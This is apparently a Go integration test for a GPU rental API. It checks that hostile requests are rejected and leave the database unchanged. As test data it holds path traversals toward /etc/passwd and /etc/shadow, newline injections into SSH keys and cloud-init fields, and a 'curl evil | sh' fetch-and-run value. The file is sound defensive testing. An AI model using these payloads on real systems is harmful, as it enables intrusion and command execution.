package api_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"github.com/gpuaas/gpuaas/internal/apiv1"
	"github.com/gpuaas/gpuaas/internal/fixtures"
)

// dbSnapshot is every row of every table as JSON, in a stable order: what "changes nothing"
// is checked against.
func dbSnapshot(t *testing.T, dsn string) map[string][]string {
	t.Helper()
	ctx := context.Background()
	conn, err := pgx.Connect(ctx, dsn)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	rows, err := conn.Query(ctx, `SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY 1`)
	if err != nil {
		t.Fatal(err)
	}
	tables, err := pgx.CollectRows(rows, pgx.RowTo[string])
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][]string{}
	for _, tbl := range tables {
		// api_tokens.last_used_at is bumped by any authenticated request (at most once a
		// minute), refused or not: bookkeeping, not a change the request made.
		rows, err := conn.Query(ctx, fmt.Sprintf(`SELECT (to_jsonb(t) - 'last_used_at')::text FROM %s t ORDER BY 1`, pgx.Identifier{tbl}.Sanitize()))
		if err != nil {
			t.Fatal(err)
		}
		if out[tbl], err = pgx.CollectRows(rows, pgx.RowTo[string]); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

type hostile struct {
	name, method, path string
	tenant             bool   // as the tenant, not the admin
	body               any    // string: raw bytes; otherwise JSON-encoded
	ctype              string // Content-Type ("" = application/json)
	status             int
	code, msg          string // wanted error code and message fragment
	field              string // details.field, for unknown fields
}

func slotMapWith(mutate func(*apiv1.SlotSpec)) apiv1.SlotApply {
	m := fixtures.H200SlotMap(1)
	mutate(&m[0])
	return apiv1.SlotApply{Slots: m}
}

func image(mutate func(m map[string]any)) map[string]any {
	m := map[string]any{"slug": "hostile", "display_name": "h", "version": "1", "target": "vm_slice", "family": "debian",
		"architecture": "amd64", "image_format": "qcow2", "source_type": "http", "source_ref": "https://images.example/h.qcow2",
		"digest_sha256": strings.Repeat("ab", 32), "default_username": "debian", "driver_strategy": "none", "active": true}
	mutate(m)
	return m
}

const goodKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl tenant@laptop"

// TestHostileInputChangesNothing sends hostile values to the real API on a real database:
// each gets its 4xx with a clear error, and no row of any table (allocations, slots, tasks,
// images, audit, ...) changes.
func TestHostileInputChangesNothing(t *testing.T) {
	b := setup(t)
	b.world()
	big := `{"sku":"h200-sxm-slice","gpus":1,"region":"` + strings.Repeat("x", 2<<20) + `"}`
	alloc := func(extra string) string { return `{"sku":"h200-sxm-slice","gpus":1` + extra + `}` }
	cases := []hostile{
		// Path traversal: allocation ids, node names, slot indexes, image ids.
		{name: "allocation id traversal", method: "GET", path: "/api/v1/allocations/..%2F..%2Fetc%2Fpasswd", tenant: true, status: 404, code: apiv1.CodeNotFound},
		{name: "release traversal", method: "POST", path: "/api/v1/allocations/%2e%2e%2f%2e%2e/release", tenant: true, status: 404, code: apiv1.CodeNotFound},
		{name: "node id traversal", method: "POST", path: "/api/v1/admin/nodes/..%2Fn1/drain", status: 404, code: apiv1.CodeNotFound},
		{name: "image id traversal", method: "DELETE", path: "/api/v1/admin/os-images/..%2Fimg?hard=true", status: 404, code: apiv1.CodeNotFound},
		{name: "slot index traversal", method: "POST", path: "/api/v1/admin/nodes/n1/slots/0%2F..%2F1/disable", status: 400, code: apiv1.CodeInvalidRequest, msg: "slot index"},
		{name: "wipe slot index traversal", method: "POST", path: "/api/v1/admin/nodes/n1/slots/..%2F0/wipe", body: `{"apply":true}`, status: 400, msg: "slot index"},
		// Device names in slot maps and storage transitions (they become host paths).
		{name: "nvme traversal", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.NVMeDevice = "/dev/disk/by-id/../../nvme0n1" }), status: 400, msg: "by-id"},
		{name: "nvme subdirectory", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.NVMeDevice = "/dev/disk/by-id/x/../../../sda" }), status: 400, msg: "by-id"},
		{name: "nvme kernel name", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.NVMeDevice = "/dev/nvme0n1" }), status: 400, msg: "by-id"},
		{name: "nvme newline", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.NVMeDevice += "\n/dev/sda" }), status: 400, msg: "by-id"},
		{name: "pci traversal", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.PCIAddress = "0000:1b:00.0/../../../../kernel" }), status: 400, msg: "pci_address"},
		{name: "vf pci traversal", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.CapacityMetadata["fabric_vf_pci_address"] = "../0000:1a:00.2" }), status: 400, msg: "fabric_vf_pci_address"},
		{name: "storage device traversal", method: "POST", path: "/api/v1/admin/nodes/n1/storage-transition", body: `{"devices":["/dev/disk/by-id/../../sda"]}`, status: 400, msg: "/dev path"},
		{name: "storage device newline", method: "POST", path: "/api/v1/admin/nodes/n1/storage-transition", body: `{"devices":["/dev/sdb\n/dev/sda"]}`, status: 400, msg: "/dev path"},
		{name: "storage device outside dev", method: "POST", path: "/api/v1/admin/nodes/n1/storage-transition", body: `{"devices":["/etc/fstab"]}`, status: 400, msg: "/dev path"},
		// Image URLs.
		{name: "image url traversal", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["source_ref"] = "https://images.example/a/../../etc/passwd" }), status: 400, msg: "climbs"},
		{name: "image url escaped traversal", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["source_ref"] = "https://images.example/a/%2e%2e/x" }), status: 400, msg: "climbs"},
		{name: "image file traversal", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["source_ref"] = "file:///srv/images/../../etc/shadow" }), status: 400, msg: "climbs"},
		{name: "image url scheme", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["source_ref"] = "gopher://images.example/x" }), status: 400, msg: "http, https or file"},
		{name: "image url credentials", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["source_ref"] = "https://u:p@images.example/x" }), status: 400, msg: "credentials"},
		{name: "image url newline", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["source_ref"] = "https://images.example/x\nX-Evil: 1" }), status: 400, msg: "control characters"},
		{name: "image patch traversal", method: "PATCH", path: "/api/v1/admin/os-images/img", body: `{"source_ref":"file:///srv/../etc/shadow"}`, status: 400, msg: "climbs"},
		// Newline injection into what cloud-init and logs receive.
		{name: "ssh key newline", method: "POST", path: "/api/v1/allocations", tenant: true, body: alloc(`,"ssh_public_keys":["` + goodKey + `\nruncmd: [reboot]"]`), status: 400, msg: "ssh_public_keys[0]"},
		{name: "ssh key second line", method: "POST", path: "/api/v1/allocations", tenant: true, body: alloc(`,"ssh_public_keys":["` + goodKey + `\r\nssh-rsa AAAA evil"]`), status: 400, msg: "ssh_public_keys[0]"},
		{name: "node name newline", method: "POST", path: "/api/v1/admin/nodes", body: `{"name":"n2\nhostname: evil","region":"lab","sku":"h200-sxm-baremetal-8g"}`, status: 400, code: apiv1.CodeInvalidRequest},
		{name: "image username newline", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["default_username"] = "debian\nsudo: ALL" }), status: 400, msg: "default_username"},
		// Size, encoding, shape.
		{name: "oversized body", method: "POST", path: "/api/v1/allocations", tenant: true, body: big, status: 413, code: apiv1.CodeTooLarge},
		{name: "invalid utf-8 body", method: "POST", path: "/api/v1/allocations", tenant: true, body: alloc(`,"region":"l` + "\xff\xfe" + `"`), status: 400, msg: "UTF-8"},
		{name: "invalid utf-8 path", method: "GET", path: "/api/v1/admin/nodes/n%ff1", status: 400, msg: "UTF-8"},
		{name: "invalid utf-8 query", method: "GET", path: "/api/v1/allocations?status=%c3%28", tenant: true, status: 400, msg: "UTF-8"},
		{name: "nul in query", method: "GET", path: "/api/v1/admin/audit?action=%00", status: 400, msg: "control characters"},
		{name: "not json", method: "POST", path: "/api/v1/allocations", tenant: true, body: `sku=h200`, ctype: "application/x-www-form-urlencoded", status: 400, msg: "Content-Type"},
		{name: "two objects", method: "POST", path: "/api/v1/allocations", tenant: true, body: alloc("") + alloc(""), status: 400, msg: "single JSON object"},
		// Negative and huge counts.
		{name: "negative gpus", method: "POST", path: "/api/v1/allocations", tenant: true, body: `{"sku":"h200-sxm-slice","gpus":-1}`, status: 400, msg: "gpus"},
		{name: "zero gpus", method: "POST", path: "/api/v1/allocations", tenant: true, body: `{"sku":"h200-sxm-slice","gpus":0}`, status: 400, msg: "gpus"},
		{name: "huge gpus", method: "POST", path: "/api/v1/allocations", tenant: true, body: `{"sku":"h200-sxm-slice","gpus":1099511627776}`, status: 409, code: apiv1.CodeSKUUnavailable},
		{name: "overflowing gpus", method: "POST", path: "/api/v1/allocations", tenant: true, body: `{"sku":"h200-sxm-slice","gpus":99999999999999999999}`, status: 400, msg: "invalid JSON"},
		{name: "fractional gpus", method: "POST", path: "/api/v1/allocations", tenant: true, body: `{"sku":"h200-sxm-slice","gpus":1.5}`, status: 400, msg: "invalid JSON"},
		{name: "negative audit limit", method: "GET", path: "/api/v1/admin/audit?limit=-1", status: 400, msg: "limit"},
		{name: "huge audit limit", method: "GET", path: "/api/v1/admin/audit?limit=99999999999999999999", status: 400, msg: "limit"},
		{name: "negative slot index", method: "POST", path: "/api/v1/admin/nodes/n1/slots/-1/disable", status: 400, msg: "slot index"},
		{name: "huge slot index", method: "POST", path: "/api/v1/admin/nodes/n1/slots/99999999999999999999/enable", status: 400, msg: "slot index"},
		{name: "slot map huge index", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { s.SlotIndex = 1 << 30 }), status: 400, msg: "slot_index"},
		{name: "slot map negative vcpus", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { v := -4; s.VCPUCount = &v }), status: 400, msg: "vcpu_count"},
		{name: "slot map huge numa", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: slotMapWith(func(s *apiv1.SlotSpec) { v := 1 << 20; s.NUMANode = &v }), status: 400, msg: "numa_node"},
		{name: "sku negative counts", method: "PATCH", path: "/api/v1/admin/skus/h200-sxm-slice", body: `{"allowed_gpu_counts":[-1,1]}`, status: 400, msg: "allowed_gpu_counts"},
		{name: "sku negative price", method: "PATCH", path: "/api/v1/admin/skus/h200-sxm-slice", body: `{"gpu_hourly_price_minor":-100}`, status: 400, code: apiv1.CodeInvalidRequest},
		{name: "image negative size", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["size_bytes"] = -1 }), status: 400, msg: "size_bytes"},
		// Unknown fields, named.
		{name: "unknown allocation field", method: "POST", path: "/api/v1/allocations", tenant: true, body: alloc(`,"gpu_count":8`), status: 400, field: "gpu_count"},
		{name: "unknown tenant override", method: "POST", path: "/api/v1/allocations", tenant: true, body: alloc(`,"role":"admin"`), status: 400, field: "role"},
		{name: "unknown nested slot field", method: "PUT", path: "/api/v1/admin/nodes/n1/slots", body: `{"slots":[{"slot_index":0,"pci_adress":"0000:1b:00.0"}]}`, status: 400, field: "pci_adress"},
		{name: "unknown image field", method: "POST", path: "/api/v1/admin/os-images", body: image(func(m map[string]any) { m["post_install"] = "curl evil | sh" }), status: 400, field: "post_install"},
	}
	before := dbSnapshot(t, b.dsn)
	for _, c := range cases {
		token := b.admin
		if c.tenant {
			token = b.tenant
		}
		var body any = c.body
		if raw, ok := c.body.(string); ok && c.body != nil {
			body = raw
		} else if c.body != nil {
			j, _ := json.Marshal(c.body)
			body = string(j)
		}
		hdr := []string{"Content-Type", "application/json"}
		if c.ctype != "" {
			hdr[1] = c.ctype
		}
		code, out := b.do(c.method, c.path, token, body, hdr...)
		if code != c.status {
			t.Errorf("%s: %s %s = %d, want %d: %.300s", c.name, c.method, c.path, code, c.status, out)
			continue
		}
		e := apiError(t, out)
		if c.code != "" && e.Code != c.code {
			t.Errorf("%s: code %s, want %s (%s)", c.name, e.Code, c.code, e.Message)
		}
		if c.msg != "" && !strings.Contains(e.Message, c.msg) {
			t.Errorf("%s: message %q does not mention %q", c.name, e.Message, c.msg)
		}
		if c.field != "" && (e.Details["field"] != c.field || !strings.Contains(e.Message, c.field)) {
			t.Errorf("%s: unknown field not named: %q %v", c.name, e.Message, e.Details)
		}
	}
	after := dbSnapshot(t, b.dsn)
	for tbl, rows := range before {
		if strings.Join(rows, "\n") != strings.Join(after[tbl], "\n") {
			t.Errorf("table %s changed:\nbefore %v\nafter  %v", tbl, rows, after[tbl])
		}
	}
	if len(after) != len(before) || len(before["allocations"]) != 0 || len(before["audit_log"]) == 0 {
		t.Fatalf("snapshot covers %d tables (%d allocations, %d audit rows): the comparison proves nothing", len(before), len(before["allocations"]), len(before["audit_log"]))
	}
}
